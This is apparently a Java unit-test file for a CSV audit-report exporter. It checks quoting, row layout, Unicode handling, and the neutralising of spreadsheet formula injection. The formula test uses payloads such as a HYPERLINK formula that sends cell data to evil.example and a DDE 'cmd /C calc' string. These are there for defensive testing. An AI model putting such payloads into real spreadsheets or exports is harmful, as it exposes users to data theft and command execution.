package org.mergegate.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;
import static org.mergegate.report.AuditReports.commit;
import static org.mergegate.report.AuditReports.report;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.mergegate.audit.AuditReport;
import org.mergegate.audit.CommitCustody.BreakGlassFacts;
import org.mergegate.audit.CommitCustody.MergeRequestFacts;
import org.mergegate.audit.CommitCustody.Violation;

class AuditCsvTest {
  /** The rows after the header, each as column name to value. */
  private static List<Map<String, String>> rows(AuditReport report) {
    String csv = AuditCsv.render(report);
    assertThat(csv).startsWith("\uFEFF");
    List<List<String>> records = Rfc4180.parse(csv.substring(1));
    assertThat(records.get(0)).isEqualTo(AuditCsv.HEADER);
    return records.stream()
        .skip(1)
        .map(
            record -> {
              assertThat(record).hasSameSizeAs(AuditCsv.HEADER);
              Map<String, String> row = new HashMap<>();
              for (int i = 0; i < record.size(); i++) {
                row.put(AuditCsv.HEADER.get(i), record.get(i));
              }
              return row;
            })
        .toList();
  }

  @Test
  void headerRowThenOneRowPerCommitNewestFirst() {
    List<Map<String, String>> rows = rows(AuditReports.mixed());

    assertThat(rows)
        .extracting(r -> r.get("sha").substring(0, 2), r -> r.get("how"))
        .containsExactly(
            tuple("d4", "break_glass"),
            tuple("c3", "merge_request"),
            tuple("b2", "direct_push"),
            tuple("a1", "merge_request"));
    assertThat(rows).allSatisfy(r -> assertThat(r.get("sha")).matches("[0-9a-f]{40}"));
  }

  @Test
  void mergeRequestFieldsFlattened() {
    Map<String, String> row = rows(AuditReports.mixed()).get(1);

    assertThat(row)
        .containsEntry("committed_at", "2026-11-20T09:30:00Z")
        .containsEntry("title", "Add the daily export DAG")
        .containsEntry("mr_iid", "7")
        .containsEntry("mr_author", "alice")
        .containsEntry("mr_merged_by", "carol")
        .containsEntry("mr_merged_at", "2026-11-20T09:29:00Z")
        .containsEntry("mr_approved_by", "bob;dave")
        .containsEntry("mr_policy_met", "true")
        .containsEntry("violations", "")
        .containsEntry("mr_url", AuditReports.PROJECT_URL + "/-/merge_requests/7")
        .containsEntry("commit_url", AuditReports.PROJECT_URL + "/-/commit/" + row.get("sha"))
        .containsEntry("break_glass_by", "")
        .containsEntry("break_glass_job_url", "");
  }

  @Test
  void breakGlassAndViolationFieldsFlattened() {
    List<Map<String, String>> rows = rows(AuditReports.mixed());

    assertThat(rows.get(0))
        .containsEntry("break_glass_by", "sre-sam")
        .containsEntry("break_glass_reason", "prod is down, #incident-42")
        .containsEntry("break_glass_at", "2026-11-28T22:17:00Z")
        .containsEntry("break_glass_issue_iid", "12")
        .containsEntry("break_glass_issue_state", "opened")
        .containsEntry("break_glass_job_url", AuditReports.PROJECT_URL + "/-/jobs/4711")
        .containsEntry("break_glass_issue_url", AuditReports.PROJECT_URL + "/-/issues/12")
        .containsEntry("violations", "break_glass_open")
        .containsEntry("mr_iid", "")
        .containsEntry("mr_policy_met", "");
    assertThat(rows.get(3))
        .containsEntry("mr_approved_by", "")
        .containsEntry("mr_policy_met", "false")
        .containsEntry("violations", "not_approved");
  }

  @Test
  void severalViolationsJoinedWithSemicolons() {
    AuditReport report =
        report()
            .add(
                commit("ee", "2026-11-05T00:00:00Z")
                    .mergeRequest(3, "alice", null, List.of(), false)
                    .violations(Violation.NOT_APPROVED, Violation.BREAK_GLASS_OPEN))
            .build();

    assertThat(rows(report).get(0)).containsEntry("violations", "not_approved;break_glass_open");
  }

  @Test
  void unknownMergerAndTimeAndNoFollowUpIssueAreEmptyCells() {
    AuditReport report =
        report()
            .add(
                commit("ab", "2026-11-05T00:00:00Z")
                    .mergeRequest(
                        new MergeRequestFacts(
                            9, "alice", null, null, List.of("bob"), true, "https://x/mr/9")))
            .add(
                commit("cd", "2026-11-04T00:00:00Z")
                    .breakGlass(
                        new BreakGlassFacts(
                            "sam",
                            "why",
                            AuditReports.SINCE,
                            "https://x/jobs/1",
                            null,
                            null,
                            null)))
            .build();

    List<Map<String, String>> rows = rows(report);
    assertThat(rows.get(0)).containsEntry("mr_merged_by", "").containsEntry("mr_merged_at", "");
    assertThat(rows.get(1))
        .containsEntry("break_glass_issue_iid", "")
        .containsEntry("break_glass_issue_state", "")
        .containsEntry("break_glass_issue_url", "");
  }

  @Test
  void commasQuotesNewlinesAndNonAsciiSurviveTheRoundTrip() {
    String title = "Fix \"quoted\", comma; and José's Ünïcödé ✓ 日本";
    String reason = "line one, with comma\r\nline \"two\"\nline three";
    AuditReport report =
        report()
            .add(
                commit("ab", "2026-11-05T00:00:00Z")
                    .title(title)
                    .breakGlass("josé", reason, 4L, "closed"))
            .build();

    Map<String, String> row = rows(report).get(0);

    assertThat(row.get("title")).isEqualTo(title);
    assertThat(row.get("break_glass_reason")).isEqualTo(reason);
    assertThat(row.get("break_glass_by")).isEqualTo("josé");
  }

  @Test
  void everyRecordEndsWithCrlfAndAQuotedFieldKeepsItsLineBreaks() {
    String csv =
        AuditCsv.render(
            report()
                .add(commit("ab", "2026-11-05T00:00:00Z").title("a\nb"))
                .add(commit("cd", "2026-11-04T00:00:00Z").title("plain"))
                .build());

    assertThat(csv).endsWith("\r\n").contains(",\"a\nb\",");
    assertThat(csv.split("\r\n", -1)).hasSize(4); // header, two rows, and the empty tail
  }

  @Test
  void cellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() {
    List<String> attacks =
        List.of(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1");
    var builder = report();
    int day = 10;
    for (String attack : attacks) {
      builder.add(
          commit("a" + day, "2026-11-" + day++ + "T00:00:00Z")
              .title(attack)
              .breakGlass(attack, attack, null, null));
    }

    List<Map<String, String>> rows = rows(builder.build());

    for (int i = 0; i < attacks.size(); i++) {
      String defused = "'" + attacks.get(i);
      assertThat(rows.get(i))
          .containsEntry("title", defused)
          .containsEntry("break_glass_by", defused)
          .containsEntry("break_glass_reason", defused);
    }
  }

  @Test
  void aFormulaBehindLeadingBlanksOrInFullWidthIsWrittenAsTextToo() {
    // LibreOffice's "Trim spaces" import and Excel's full-width input both make these formulas.
    List<String> attacks =
        List.of(" =1+1", "\n=1+1", "\u00a0@SUM(A1:A9)", "\u3000-2+3", "\uff1d1+1", "\uff0b1");
    var builder = report();
    int day = 10;
    for (String attack : attacks) {
      builder.add(commit("a" + day, "2026-11-" + day++ + "T00:00:00Z").title(attack));
    }

    List<Map<String, String>> rows = rows(builder.build());

    for (int i = 0; i < attacks.size(); i++) {
      assertThat(rows.get(i)).containsEntry("title", "'" + attacks.get(i));
    }
  }

  @Test
  void aFormulaCharacterAfterTheFirstIsLeftAlone() {
    Map<String, String> row =
        rows(report().add(commit("ab", "2026-11-05T00:00:00Z").title("a=b+c-d@e")).build()).get(0);

    assertThat(row).containsEntry("title", "a=b+c-d@e");
  }

  @Test
  void anEmptyReportIsTheHeaderAlone() {
    String csv = AuditCsv.render(report().build());

    assertThat(csv).isEqualTo("\uFEFF" + String.join(",", AuditCsv.HEADER) + "\r\n");
  }

  @Test
  void theTestReaderRejectsWhatRfc4180Forbids() {
    // The reader above is what proves the renderer's quoting; it must not read leniently.
    assertThatThrownBy(() -> Rfc4180.parse("a,b\n")).hasMessageContaining("bare LF");
    assertThatThrownBy(() -> Rfc4180.parse("a,b")).hasMessageContaining("CRLF");
    assertThatThrownBy(() -> Rfc4180.parse("a\"b\r\n")).hasMessageContaining("quote");
    assertThatThrownBy(() -> Rfc4180.parse("\"a\"b\r\n")).hasMessageContaining("closing quote");
    assertThat(Rfc4180.parse("\"a\"\"b\",\r\n")).containsExactly(List.of("a\"b", ""));
  }
}
